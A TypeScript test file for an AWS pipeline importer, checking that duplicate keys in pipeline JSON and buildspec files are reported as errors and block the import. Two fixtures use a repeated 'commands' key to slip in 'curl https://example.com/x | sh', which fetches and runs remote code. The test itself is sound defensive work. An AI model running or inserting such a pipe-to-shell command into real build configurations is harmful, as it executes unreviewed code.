/**
 * Issue 13: a key given twice in get-pipeline JSON, a CloudFormation template, a buildspec file or
 * a buildspec inline in a project is an error at the repeat, naming the first one's position (both
 * in the file, also for inline buildspecs), and nothing is imported.
 */
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import type { Diagnostic } from "@pipeglot/schema";
import { importFiles } from "@pipeglot/aws";
import { REPO } from "../helpers/paths.js";

const CODE = "PG-AWS-IMPORT-DUPLICATE-KEY";
const REAL = join(REPO, "test/fixtures/aws/realworld");
const real = (name: string) => readFileSync(join(REAL, name), "utf8");
const dups = (d: Diagnostic[]) => d.filter((x) => x.code === CODE);
/** 1-based line and column of the n-th (0-based) occurrence of `needle` in `text`. */
const at = (text: string, needle: string, n = 0) => {
  let i = -1;
  for (let k = 0; k <= n; k++) i = text.indexOf(needle, i + 1);
  if (i < 0) throw new Error(`${needle} not found`);
  const before = text.slice(0, i).split("\n");
  return { line: before.length, column: before[before.length - 1]!.length + 1 };
};

describe("aws import: duplicate keys", () => {
  it("get-pipeline JSON: a configuration member given twice", () => {
    const content = real("get-pipeline.json").replace(
      '"configuration": { "ProjectName": "orders-build" }',
      '"configuration": { "ProjectName": "orders-build", "ProjectName": "other-build" }',
    );
    const first = at(content, '"ProjectName"');
    const second = at(content, '"ProjectName"', 1);
    const r = importFiles([
      { path: "get-pipeline.json", content },
      { path: "projects.json", content: real("projects.json") },
    ]);
    expect(r.pipeline).toBeUndefined();
    const d = dups(r.diagnostics);
    expect(d).toHaveLength(1);
    expect(d[0]).toMatchObject({ severity: "error", file: "get-pipeline.json", ...second });
    expect(d[0]!.message).toContain("duplicate key `ProjectName`");
    expect(d[0]!.message).toContain(`line ${first.line}, column ${first.column}`);
  });

  it("buildspec.yml: `commands` given twice in a phase", () => {
    const content = [
      "version: 0.2",
      "phases:",
      "  build:",
      "    commands:",
      "      - echo reviewed",
      "    commands:",
      "      - curl https://example.com/x | sh",
      "",
    ].join("\n");
    const r = importFiles([{ path: "buildspec.yml", content }]);
    expect(r.pipeline).toBeUndefined();
    const d = dups(r.diagnostics);
    expect(d).toHaveLength(1);
    expect(d[0]).toMatchObject({ severity: "error", file: "buildspec.yml", line: 6, column: 5 });
    expect(d[0]!.message).toContain("duplicate key `commands`: also at line 4, column 5");
  });

  it("a buildspec inline in a CloudFormation template (block literal): both positions are the template's", () => {
    const content = real("template.yaml").replace(
      "                - npm run build\n",
      "                - npm run build\n              commands:\n                - curl https://example.com/x | sh\n",
    );
    const first = at(content, "commands:");
    const second = at(content, "commands:", 1);
    const r = importFiles([{ path: "template.yaml", content }]);
    expect(r.pipeline).toBeUndefined();
    const d = dups(r.diagnostics);
    expect(d).toHaveLength(1);
    expect(d[0]).toMatchObject({ severity: "error", file: "template.yaml", ...second });
    expect(d[0]!.message).toContain(`duplicate key \`commands\`: also at line ${first.line}, column ${first.column}`);
  });

  it("a buildspec inline in batch-get-projects JSON (one escaped string): columns inside the string", () => {
    const content = real("projects.json").replace("\\n  build:\\n    commands:\\n", "\\n  build:\\n    commands:\\n      - echo reviewed\\n    commands:\\n");
    const first = at(content, "commands:");
    const second = at(content, "commands:", 1);
    const r = importFiles([
      { path: "get-pipeline.json", content: real("get-pipeline.json") },
      { path: "projects.json", content },
    ]);
    expect(r.pipeline).toBeUndefined();
    const d = dups(r.diagnostics);
    expect(d).toHaveLength(1);
    expect(d[0]).toMatchObject({ severity: "error", file: "projects.json", ...second });
    expect(d[0]!.message).toContain(`line ${first.line}, column ${first.column}`);
  });

  it("the same files without the repeat import as before", () => {
    const r = importFiles([
      { path: "get-pipeline.json", content: real("get-pipeline.json") },
      { path: "projects.json", content: real("projects.json") },
    ]);
    expect(dups(r.diagnostics)).toEqual([]);
    expect(r.pipeline).toBeDefined();
  });
});
